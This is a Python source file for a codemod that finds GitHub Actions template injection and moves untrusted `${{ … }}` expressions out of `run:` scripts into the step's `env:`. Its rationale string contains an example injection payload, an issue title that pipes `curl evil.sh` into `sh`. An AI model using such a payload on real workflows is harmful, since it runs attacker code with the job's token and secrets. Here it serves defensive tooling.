"""gha-template-injection: untrusted `${{ … }}` in `run:` moved into the step's `env:`."""
from __future__ import annotations

import json
import re
from dataclasses import dataclass

from yaml.nodes import MappingNode, ScalarNode

from fixer.codemod import Codemod, Example, Finding, Skip
from fixer.shell import _parser
from fixer.text import Edit
from fixer.yamldoc import Raw, get, items, scalar

from ._gha_common import jobs, root, step_label, steps

# Values anyone who can open an issue, a pull request or push a branch controls.
UNTRUSTED = re.compile(
    r"\bgithub\.(?:head_ref|event\.(?:"
    r"issue\.(?:title|body)"
    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))"
    r"|(?:comment|review|review_comment)\.body"
    r"|discussion\.(?:title|body)"
    r"|pages\.[\w*]+\.page_name"
    r"|commits\.[\w*]+\.(?:message|author\.(?:email|name))"
    r"|head_commit\.(?:message|author\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))"
    r"|pull_requests\.[\w*]+\.head\.ref)))(?![\w.])")
# Values the workflow computes or receives: moved too (the same string, no longer code),
# bare ones unquoted so word splitting stays as it was.
COMPUTED = re.compile(r"\b(?:(?:github\.event\.)?inputs\.[\w-]+|matrix\.[\w-]+(?:\.[\w-]+)*"
                      r"|github\.(?:ref|ref_name|base_ref)(?![\w.])"
                      r"|(?:steps|needs|jobs)\.[\w-]+\.outputs\.[\w-]+)")
_ENV_ONLY = re.compile(r"^\$\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}$")
_GITHUB_ENV = re.compile(r"\b([A-Za-z_][A-Za-z0-9_]*)=[^\n]*>>\s*\"?\$\{?GITHUB_ENV")
_EXPR = re.compile(r"\$\{\{(.*?)\}\}")
SHELLS = ("bash", "sh")


@dataclass(slots=True)
class Spot:
    start: int          # offset of `${{` in the run text
    end: int
    expr: str           # the whole `${{ … }}`
    where: str          # double, single, bare, heredoc, comment


def classify(expr: str, visible: set[str], constant: set[str] = frozenset()) -> str:
    """untrusted, env (`${{ env.NAME }}` of a variable the step has), computed, or ''.
    `constant`: context paths whose values the workflow itself fixes (a literal matrix,
    boolean/number/choice inputs)."""
    if UNTRUSTED.search(expr):
        return "untrusted"
    m = _ENV_ONLY.match(expr)
    if m:
        return "env" if m.group(1) in visible else ""
    paths = [m.group(0) for m in COMPUTED.finditer(expr)]
    return "computed" if any(not _fixed(p.replace("github.event.", ""), constant) for p in paths) else ""


def _fixed(path: str, constant: set[str]) -> bool:
    return path in constant or any(path.startswith(c + ".") for c in constant)


def constants(doc, job) -> set[str]:
    """`matrix.KEY` of a literal matrix and `inputs.NAME` of boolean, number and choice inputs."""
    out = set()
    matrix = get(get(job, "strategy"), "matrix")
    if isinstance(matrix, MappingNode):
        rows = [matrix] + [r for key in ("include",) for r in getattr(get(matrix, key), "value", [])]
        for row in rows:
            if not isinstance(row, MappingNode):
                continue
            for k, v in row.value:
                if isinstance(k, ScalarNode) and k.value not in ("include", "exclude") and "${{" not in doc.span(v):
                    out.add(f"matrix.{k.value}")
        for row in [matrix] + list(getattr(get(matrix, "include"), "value", [])):
            for k, v in getattr(row, "value", []):
                if isinstance(k, ScalarNode) and "${{" in doc.span(v):
                    out.discard(f"matrix.{k.value}")
    on = get(root(doc), "on")
    for trigger in ("workflow_dispatch", "workflow_call"):
        for name, spec in items(get(get(on, trigger), "inputs")):
            if (scalar(get(spec, "type")) or "") in ("boolean", "number", "choice"):
                out.add(f"inputs.{name}")
    return out


def env_name(expr: str) -> str:
    """ISSUE_TITLE for github.event.issue.title, HEAD_REF for github.head_ref."""
    m = UNTRUSTED.search(expr) or COMPUTED.search(expr)
    path = (m.group(0) if m else expr).split(".")
    parts = [p for p in path if p not in ("github", "event", "*", "outputs", "steps", "needs", "jobs")][-2:]
    name = re.sub(r"[^A-Za-z0-9]+", "_", "_".join(parts)).strip("_").upper()
    return name or "UNTRUSTED_VALUE"


def contexts(text: str) -> list[Spot]:
    """Every `${{ … }}` of a shell script with the quoting it sits in."""
    spots = [Spot(m.start(), m.end(), m.group(0), "") for m in _EXPR.finditer(text)]
    masked = text
    for s in spots:    # same-length words, so the script parses and offsets stay
        masked = masked[:s.start] + "_" * (s.end - s.start) + masked[s.end:]
    data = masked.encode("utf-8")
    tree = _parser().parse(data)
    for s in spots:
        b = len(masked[:s.start].encode("utf-8"))
        node = tree.root_node.descendant_for_byte_range(b, b + 1)
        s.where = "bare"
        while node is not None:
            t = node.type
            if t == "string":
                s.where = "double"
                break
            if t == "raw_string":
                s.where = "single"
                break
            if t in ("heredoc_body", "heredoc_content"):
                s.where = "heredoc-quoted" if _quoted_heredoc(node) else "heredoc"
                break
            if t == "comment":
                s.where = "comment"
                break
            if t in ("ansi_c_string", "translated_string"):
                s.where = "other"
                break
            if t == "command_name":
                s.where = "command"
                break
            if t in ("command_substitution", "process_substitution", "arithmetic_expansion"):
                break
            node = node.parent
        if tree.root_node.has_error:
            s.where = "unparsed"
    return spots


def _quoted_heredoc(body) -> bool:
    redirect = body.parent
    while redirect is not None and redirect.type != "heredoc_redirect":
        redirect = redirect.parent
    if redirect is None:
        return True
    start = next((c for c in redirect.children if c.type == "heredoc_start"), None)
    return start is None or any(q in start.text.decode("utf-8", "replace") for q in "'\"\\")


def replacement(where: str, name: str, quote_bare: bool = True) -> str | None:
    bare = '"${%s}"' % name if quote_bare else "${%s}" % name
    return {"double": "${%s}" % name, "single": "'\"${%s}\"'" % name, "bare": bare,
            "heredoc": "${%s}" % name, "comment": "${%s}" % name}.get(where)


def _shell(doc, job, step) -> str:
    for holder in (step, get(job, "defaults"), get(root(doc), "defaults")):
        sh = scalar(get(get(holder, "run"), "shell")) if holder is not step else scalar(get(step, "shell"))
        if sh:
            return sh.strip()
    runs_on = doc.span(get(job, "runs-on")) if get(job, "runs-on") is not None else ""
    return "pwsh" if "windows" in runs_on.lower() else "bash"


class GhaTemplateInjection(Codemod):
    id = "gha-template-injection"
    title = "Pass untrusted event data to run: scripts through env"
    kinds = ("workflow",)
    severity = "high"
    safety = "evidenced"
    checks = ("zizmor:template-injection", "codeql:actions/code-injection")
    order = 415
    scope = "file"
    rationale = (
        "`${{ … }}` is pasted into a `run:` script before the shell reads it, so an issue "
        "title such as `a\"; curl evil.sh | sh; \"` runs as code with the job's token and "
        "secrets. Values anyone can set (issue, pull request, comment, review and "
        "discussion text, commit messages and authors, branch names: github.head_ref, "
        "pull_request.head.ref, workflow_run.head_branch) move into the step's `env:` and "
        "the script reads the variable, quoted for where the expression stood (inside "
        "double quotes `${TITLE}`, inside single quotes `'\"${TITLE}\"'`, bare `\"${TITLE}\"`), "
        "found with tree-sitter-bash. Values the workflow receives or computes (`inputs.*`, "
        "`matrix.*`, step, job and needs outputs) move the same way with medium confidence "
        "(they are less exposed, but a branch name or a title can reach them), bare ones "
        "unquoted so word splitting stays as it was; `${{ env.NAME }}` of a variable the step "
        "has becomes `${NAME}`. An expression that is the command itself (`run: ${{ "
        "inputs.script }}`) is code on purpose and is left alone. "
        "Scripts for other shells (pwsh, cmd, python), quoted heredocs and YAML-quoted "
        "`run:` values are left alone with the reason.")
    guide = (
        "The value is the same string as before; only the shell no longer reads it as code. "
        "Keep an expression in place with `# fixer: ignore[gha-template-injection]` on the step "
        "when it is known to be safe (a number, a fixed choice).")
    examples = [
        Example(".github/workflows/triage.yml",
                "on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: |\n          echo \"New issue: ${{ github.event.issue.title }}\"\n"
                "          ./label.sh ${{ github.event.issue.title }} '${{ github.event.issue.body }}'\n",
                "on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: |\n          echo \"New issue: ${ISSUE_TITLE}\"\n"
                "          ./label.sh \"${ISSUE_TITLE}\" ''\"${ISSUE_BODY}\"''\n"
                "        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n"
                "          ISSUE_BODY: ${{ github.event.issue.body }}\n"),
        Example(".github/workflows/pr.yml",
                "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - name: branch\n        env:\n          N: 1\n"
                "        run: git checkout -b \"x-${{ github.head_ref }}\"\n",
                "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - name: branch\n        env:\n          N: 1\n          HEAD_REF: ${{ github.head_ref }}\n"
                "        run: git checkout -b \"x-${HEAD_REF}\"\n"),
        Example(".github/workflows/manual.yml",
                "on: workflow_dispatch\nenv:\n  REGION: eu\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: ./deploy.sh ${{ inputs.environment }} --region=${{ env.REGION }}\n",
                "on: workflow_dispatch\nenv:\n  REGION: eu\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: ./deploy.sh ${INPUTS_ENVIRONMENT} --region=${REGION}\n"
                "        env:\n          INPUTS_ENVIRONMENT: ${{ inputs.environment }}\n"),
        Example(".github/workflows/manual.yml",
                "on: workflow_dispatch\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: |\n          ${{ inputs.script }}\n",
                skip="is the command itself"),
        Example(".github/workflows/win.yml",
                "on: issues\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n"
                "      - run: echo \"${{ github.event.issue.title }}\"\n",
                skip="shell pwsh"),
        Example(".github/workflows/ci.yml",
                "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n"
                "    strategy:\n      matrix:\n        os: [linux, mac]\n    steps:\n"
                "      - run: echo ${{ github.sha }} ${{ matrix.os }}\n"),
    ]

    def wants(self, text):
        return "${{" in text and "run" in text

    def fix(self, doc, ctx):
        top_env = _env_names(get(root(doc), "env"))
        for jid, _, job in jobs(doc):
            job_env = _env_names(get(job, "env"))
            written: set[str] = set()      # names earlier steps write to $GITHUB_ENV
            for i, st in steps(job):
                run = get(st, "run")
                if not isinstance(run, ScalarNode):
                    continue
                if "${{" in run.value:
                    visible = set(top_env) | set(job_env) | set(_env_names(get(st, "env"))) | written
                    yield from self._step(doc, jid, job, i, st, run, top_env | job_env, visible,
                                          constants(doc, job))
                written |= set(_GITHUB_ENV.findall(run.value))

    def _step(self, doc, jid, job, i, st, run, outer: dict, visible: set[str], constant: set[str]):
        label = f"job {jid} {step_label(i, st)}"
        line = run.start_mark.line + 1
        exprs = [m.group(0) for m in _EXPR.finditer(run.value)]
        kinds = {e: classify(e, visible, constant) for e in exprs}
        unknown = [m.group(1) for e in dict.fromkeys(exprs) for m in [_ENV_ONLY.match(e)] if m and not kinds[e]]
        if unknown:
            yield Skip(doc.path, line, f"{label}: env.{', env.'.join(unknown)} is not set by this workflow "
                       "(an env: block or $GITHUB_ENV), so the shell variable may differ: left in place")
        moved = [e for e in exprs if kinds[e]]
        if not moved:
            return
        what = ", ".join(dict.fromkeys(moved))
        sh = _shell(doc, job, st)
        if sh.split()[0] not in SHELLS:
            yield Skip(doc.path, line, f"{label} expands {what} in a shell {sh} script: not rewritten")
            return
        plain = not run.style
        if run.style not in (None, "", "|", ">") or (plain and run.value.startswith("${{")):
            yield Skip(doc.path, line, f"{label} expands {what} in a run: value written in a form fixer "
                       "does not rewrite (quoted YAML, or an expression first)")
            return
        raw_start = run.start_mark.index
        raw = doc.text[raw_start:run.end_mark.index]
        raw_spots = list(_EXPR.finditer(raw))
        if [m.group(0) for m in raw_spots] != exprs:
            yield Skip(doc.path, line, f"{label}: run: text does not map onto the file")
            return
        env = get(st, "env")
        if env is not None and not isinstance(env, MappingNode):
            yield Skip(doc.path, line, f"{label}: env is an expression")
            return
        own = _env_names(env)
        names: dict[str, str] = {}          # expression -> variable
        edits: list[Edit] = []
        for spot, m in zip(contexts(run.value), raw_spots):
            kind = kinds[spot.expr]
            if not kind:
                continue
            if spot.where == "command":
                yield Skip(doc.path, line, f"{label}: {spot.expr} is the command itself (the workflow runs "
                           "the value as code on purpose): not rewritten")
                return
            if kind == "env":
                name = _ENV_ONLY.match(spot.expr).group(1)
            else:
                name = names.get(spot.expr) or self._name(spot.expr, own, outer, names)
                names[spot.expr] = name
            rep = replacement(spot.where, name, quote_bare=kind == "untrusted")
            if rep is None:
                yield Skip(doc.path, line, f"{label}: {spot.expr} sits in {spot.where} shell text: not rewritten")
                return
            edits.append(doc.replace(raw_start + m.start(), raw_start + m.end(), rep))
        new = {n: e for e, n in names.items() if own.get(n) != _inner(e)}
        if new:
            edits.append(self._env_edit(doc, st, env, new))
        untrusted = [e for e in dict.fromkeys(moved) if kinds[e] == "untrusted"]
        if untrusted:
            msg = f"{label} expands {', '.join(untrusted)} into its script (shell injection)"
        else:
            msg = f"{label} pastes {what} into its script before the shell reads it"
        yield Finding(doc.path, line, msg, edits, check="zizmor:template-injection",
                      confidence="high" if untrusted else "medium")

    @staticmethod
    def _name(expr: str, own: dict, outer: dict, taken: dict) -> str:
        base = env_name(expr)
        name, n = base, 1
        while (own.get(name) not in (None, _inner(expr)) or (name in outer and own.get(name) is None)
               or name in taken.values()):
            n += 1
            name = f"{base}_{n}"
        return name

    @staticmethod
    def _env_edit(doc, st, env, new: dict) -> Edit:
        if env is None:
            return doc.add_entry(st, "env", {n: Raw(e) for n, e in new.items()})
        if env.flow_style or not env.value:
            pieces = [doc.add_entry(env, n, Raw(json.dumps(e))) for n, e in list(new.items())[:1]]
            if len(new) > 1:
                return doc.replace(env.start_mark.index, env.end_mark.index, "{" + ", ".join(
                    [doc.span(k) + ": " + doc.span(v) for k, v in env.value]
                    + [f"{n}: {json.dumps(e)}" for n, e in new.items()]) + "}")
            return pieces[0]
        first = [doc.add_entry(env, n, Raw(e)) for n, e in new.items()]
        return Edit(first[0].path, first[0].start, first[0].end, "".join(e.text for e in first))


def _inner(expr: str) -> str:
    return " ".join(expr.split())


def _env_names(node) -> dict[str, str]:
    if not isinstance(node, MappingNode):
        return {}
    return {k: _inner(doc_scalar) for k, v in items(node) for doc_scalar in [scalar(v) or ""]}
